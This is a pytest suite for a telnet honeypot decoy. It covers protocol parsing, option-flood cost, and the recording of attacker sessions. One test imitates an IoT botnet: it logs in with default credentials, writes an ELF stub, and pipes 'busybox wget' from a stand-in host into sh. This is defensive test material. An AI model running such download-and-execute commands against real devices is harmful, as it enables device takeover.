"""Telnet from end to end: the protocol's bytes, real clients, a real sensor, and what it recorded."""

import json
import socket
import subprocess
from collections.abc import Iterator
from contextlib import contextmanager
from functools import partial
from itertools import pairwise
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from decnet.decoys.telnet import DECOY
from decnet.events import (
    CommandIssued,
    CredentialOffered,
    DownloadRequested,
    FileCaptured,
    SessionEnded,
    SessionRecorded,
    TerminalRequested,
)
from decnet.kit.telnet import Detail, Option, Signal, TelnetReader, escape, variables, window
from tests.serving import Served, served, until
from tests.support import work
from tests.transcripts import context, drain, pieces

SCRIPT = """
set timeout 20
log_user 1
spawn telnet {address} {port}
expect "login: " {{ send "root\\r" }}
expect "assword: " {{ send "wrong guess\\r" }}
expect "ncorrect"
expect "login: " {{ send "root\\r" }}
expect "assword: " {{ send "123456\\r" }}
expect -re {{[#] $}} {{ send "uname -n; stty size\\r" }}
expect -re {{[#] $}} {{ send "cat > /tmp/a.sh <<E\\recho made\\rE\\r" }}
expect -re {{[#] $}} {{ send "sh /tmp/a.sh\\r" }}
expect "made"
expect -re {{[#] $}} {{ send "exit\\r" }}
expect eof
"""


def test_the_wire_in_any_pieces() -> None:
    data = b"a\xff\xffb\r\0c\r\nd\n\xff\xfb\x18\xff\xfa\x1f\0\xff\xff\0\x18\xff\xf0\xff\xf4e"
    for size in (1, 2, 3, 100):
        reader, text, others = TelnetReader(), b"", list[object]()
        for piece in pieces(data, size):
            for event in reader.feed(piece):
                if isinstance(event, bytes):
                    text += event
                else:
                    others.append(event)
        assert text == b"a\xffb\rc\rd\ne"
        assert others == [Option(0xFB, 24), Detail(31, b"\0\xff\0\x18"), Signal(0xF4)]


@given(st.binary(max_size=400))
def test_what_is_escaped_comes_out_again(data: bytes) -> None:
    plain = data.replace(b"\r", b"")
    events = list(TelnetReader().feed(escape(plain)))
    assert b"".join(event for event in events if isinstance(event, bytes)) == plain


def test_values_of_options() -> None:
    assert window(b"\0\x78\0\x28") == (120, 40)
    assert window(b"\0") is None
    assert variables(b"\0\0USER\1joe\3X\1a\2\0b") == [(b"USER", b"joe"), (b"X", b"a\0b")]
    assert variables(b"\0\0A\0B\1") == [(b"A", b""), (b"B", b"")]


@pytest.mark.parametrize(
    "flood", [b"\xff\xfb\x18", b"\xff\xfa\x18\x00xterm\xff\xf0", b"\xff\xfa\x18", b"\r\n", b"ab\r\n"]
)
def test_floods_of_options_cost_linear_work(flood: bytes) -> None:
    few, many = (work(partial(drain, DECOY, [flood * n])) for n in (200, 800))
    assert many <= 4.4 * few + 5_000


def test_two_devices_differ() -> None:
    first, second = (context(DECOY, seed).persona for seed in ("alpha", "beta"))
    assert first.accounts[0].weak != second.accounts[0].weak


@contextmanager
def connected(decky: Served) -> Iterator[socket.socket]:
    with socket.create_connection((decky.address, decky.port("telnet")), 20) as stream:
        stream.settimeout(20)
        yield stream


def read_until(stream: socket.socket, end: bytes) -> bytes:
    """All up to ``end``."""
    data = b""
    while not data.endswith(end):
        piece = stream.recv(4096)
        if not piece:
            return data
        data += piece
    return data


@pytest.mark.needs("telnet", "expect")
@pytest.mark.parametrize(("archetype", "distro"), [("iot-device", "embedded"), ("linux-server", "debian")])
def test_the_real_client(archetype: str, distro: str, tmp_path: Path) -> None:
    with served(tmp_path, "telnet", archetype=archetype, distro=distro) as decky:
        script = SCRIPT.format(address=decky.address, port=decky.port("telnet"))
        done = subprocess.run(["expect", "-"], input=script, capture_output=True, text=True, timeout=60, check=True)
        assert "Login incorrect" in done.stdout
        assert "srv-01\n24 80\n" in done.stdout
        assert "wrong guess" not in done.stdout
        (recorded,) = decky.wait_for(SessionRecorded)
        tried = [(fact.principal, fact.secret.reveal(), fact.accepted) for fact in decky.facts(CredentialOffered)]
        assert tried == [(b"root", b"wrong guess", False), (b"root", b"123456", True)]
        lines = [(fact.line, fact.effect) for fact in decky.facts(CommandIssued)]
        assert [effect for _, effect in lines] == ["read", "write", "execute", "read"]
        assert lines[1][0] == b"cat > /tmp/a.sh <<E\necho made\nE"
        assert decky.facts(FileCaptured)[0].path == b"/tmp/a.sh"
        assert decky.facts(TerminalRequested)[0].rows == 24
        until(lambda: decky.facts(SessionEnded), "the end")
        assert decky.facts(SessionEnded)[0].reason == "decoy"
        cast = (tmp_path / "recordings" / recorded.path).read_text().splitlines()
    header, *entries = (json.loads(line) for line in cast)
    assert header["version"] == 2
    assert [first <= second for (first, *_), (second, *_) in pairwise(entries)].count(False) == 0
    shown = "".join(text for _, code, text in entries if code == "o")
    typed = "".join(text for _, code, text in entries if code == "i")
    assert "made" in shown
    assert "sh /tmp/a.sh\r" in typed
    assert "wrong" not in typed
    assert "***********" in typed


def test_a_bot_over_a_plain_socket(tmp_path: Path) -> None:
    """Options refused, lines sent ahead, a download in vain, an upload by echo, and a connection that just goes."""
    with served(tmp_path, "telnet", archetype="iot-device") as decky:
        with connected(decky) as bot:
            assert read_until(bot, b"login: ").startswith(b"\xff\xfd\x01\xff\xfd\x1f\xff\xfb\x01\xff\xfb\x03")
            bot.sendall(b"\xff\xfc\x01\xff\xfc\x1f\xff\xfe\x01\xff\xfe\x03root\r\n")
            read_until(bot, b"assword: ")
            bot.sendall(b"123456\r\n")
            read_until(bot, b"# ")
            bot.sendall(b"sh\r\n/bin/busybox ECCHI\r\n")
            assert b"ECCHI: applet not found" in read_until(bot, b"found\r\n~ # ")
            bot.sendall(b"cd /tmp; echo -ne '\\x7f\\x45\\x4c\\x46' > .b; echo -ne '\\x01' >> .b\r\n")
            read_until(bot, b"/tmp # ")
            bot.sendall(b"chmod 777 .b; ./.b; busybox wget http://localhost.invalid/m -O - | sh\r\n")
            decky.wait_for(DownloadRequested)
        until(lambda: decky.facts(SessionEnded), "the end")
        assert decky.facts(SessionEnded)[0].reason in ("visitor", "lost")
        assert decky.facts(DownloadRequested)[0].url == b"http://localhost.invalid/m"
        assert [(fact.path, fact.size) for fact in decky.facts(FileCaptured)] == [(b"/tmp/.b", 5)]
        lines = [fact.line for fact in decky.facts(CommandIssued)]
        assert lines[:2] == [b"sh", b"/bin/busybox ECCHI"]


def test_three_guesses_and_the_device_hangs_up(tmp_path: Path) -> None:
    with served(tmp_path, "telnet", archetype="iot-device") as decky, connected(decky) as bot:
        for guess in (b"one", b"two", b"three"):
            read_until(bot, b"login: ")
            bot.sendall(b"nobody\r\n")
            read_until(bot, b"assword: ")
            bot.sendall(guess + b"\r\n")
        assert read_until(bot, b"never").endswith(b"Login incorrect\r\n")
        assert len(decky.facts(CredentialOffered)) == 3
